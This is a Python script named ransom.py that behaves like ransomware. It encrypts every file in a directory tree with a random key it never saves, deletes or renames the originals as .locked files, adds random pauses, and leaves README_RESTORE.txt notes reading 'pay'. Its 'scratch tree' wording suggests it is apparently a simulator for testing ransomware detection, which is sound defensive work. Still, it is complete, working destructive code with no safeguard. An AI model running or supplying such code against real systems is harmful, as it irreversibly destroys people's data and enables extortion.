# ransom.py TREE PACE [STYLE]: encrypts the files of a scratch tree. STYLE `new` writes file.locked and unlinks the file;
# `place` rewrites the first part in place and renames; `walk` goes depth first and keeps the tree's notes for the end.
import hashlib, os, random, sys, time

tree, pace, style = sys.argv[1], float(sys.argv[2]), (sys.argv[3:] or ['new'])[0]
key = os.urandom(32)


def crypt(data):
    out = bytearray(len(data))
    for i in range(0, len(data), 64):
        k = hashlib.sha512(key + i.to_bytes(8, 'big')).digest()
        piece = data[i : i + 64]
        out[i : i + len(piece)] = (
            int.from_bytes(piece, 'big') ^ int.from_bytes(k[: len(piece)], 'big')
        ).to_bytes(len(piece), 'big')
    return bytes(out)


for path, _, files in os.walk(tree, topdown=style != 'walk'):
    for name in files:
        file = os.path.join(path, name)
        if file.endswith('.locked') or not os.path.isfile(file) or os.path.islink(file):
            continue
        if style == 'place':
            with open(file, 'r+b') as f:
                head = f.read(16384)
                f.seek(0)
                f.write(crypt(head))
                if random.random() < 0.1:
                    f.flush()
                    os.fdatasync(f.fileno())
            os.rename(file, file + '.locked')
        else:
            with open(file, 'rb') as f:
                data = f.read(400000)
            with open(file + '.locked', 'wb') as f:
                f.write(crypt(data))
                if random.random() < 0.2:
                    f.flush()
                    os.fsync(f.fileno())
            os.unlink(file)
        if pace:
            time.sleep(random.random() * pace)
    if style != 'walk':
        with open(os.path.join(path, 'README_RESTORE.txt'), 'w') as f:
            f.write('pay')
